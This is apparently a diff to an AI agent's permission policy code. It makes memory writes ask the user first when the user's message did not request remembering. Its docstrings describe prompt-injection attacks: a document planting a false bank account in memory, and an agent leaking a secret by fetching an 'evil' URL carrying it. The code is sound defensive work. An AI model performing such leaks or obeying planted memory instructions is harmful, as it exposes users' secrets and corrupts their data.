@@ -10,6 +10,8 @@ arguments: `untrusted_args` empty lets the call keep its mode, non-empty makes i
 Some effects ask after untrusted content whatever the settings (ASK_AFTER_CONTENT: `memory_write`): neither
 `escalate_after_untrusted: false` nor argument provenance judging the values clean lets them run by themselves,
 since what they would keep is the content's say-so itself (a document's "remember that my bank account is X").
+A `memory_write` also asks in a chat turn whose user message did not ask to remember or forget anything
+(`memory_asked` False, judged by memory/asked.py): a weak model asked "who is my dentist?" must not keep a fact.
 A scope (a jorb's approved overrides) may relax or tighten effects for its own calls only.
 """
 
@@ -56,6 +58,10 @@ CONFIG_ONLY_AUTO = frozenset({"process_start"})
 # (memory/tools.py), and forgetting would let a document erase what the user told; only the user's yes may do it.
 ASK_AFTER_CONTENT = frozenset({"memory_write"})
 
+# Effects that run by themselves in a chat turn only when the user's message asked for them (memory/asked.py): a
+# small model calls memory_remember on a plain question and would keep its own invention as the user's fact.
+ASK_UNLESS_ASKED = frozenset({"memory_write"})
+
 
 def mode_for_effect(effect: str, config: AutonomyConfig, overrides: Mapping[str, Mode] | None = None) -> Mode:
     configured = config.effects.get(effect, config.default)
@@ -76,10 +82,13 @@ def decide(
     tool_requires_confirmation: str | None = None,
     sends_out: bool = False,
     untrusted_args: list[str] | None = None,
+    memory_asked: bool | None = None,
 ) -> PolicyDecision:
     """sends_out: the call can carry data off the machine (a fetch of a URL, a send): after untrusted content it
     is escalated like a side effect, whatever its hints, since reading a secret then fetching
-    `https://evil/?q=SECRET` changes nothing here and still leaks."""
+    `https://evil/?q=SECRET` changes nothing here and still leaks. memory_asked: whether the turn's user message
+    asked to remember or forget something (None: no user message, a jorb's own step); False makes a memory write
+    ask."""
     escalates_as_effect = bool(side_effects) or (sends_out and config.escalate_after_untrusted and untrusted_seen)
     if not escalates_as_effect and not tool_requires_confirmation:
         return PolicyDecision("auto")
@@ -98,6 +107,13 @@ def decide(
             escalated = True
         mode = "confirm"
         reasons.append(tool_requires_confirmation)
+    unasked = sorted(e for e in side_effects if e in ASK_UNLESS_ASKED)
+    if unasked and memory_asked is False:
+        if mode == "auto":
+            escalated = True
+        mode = "confirm"
+        reasons.append(f"your message did not ask to remember or forget anything, so {', '.join(unasked)} asks first: "
+                       "the model chose to keep this by itself")
     always = sorted(e for e in side_effects if e in ASK_AFTER_CONTENT)
     if always and untrusted_seen:
         if mode == "auto":
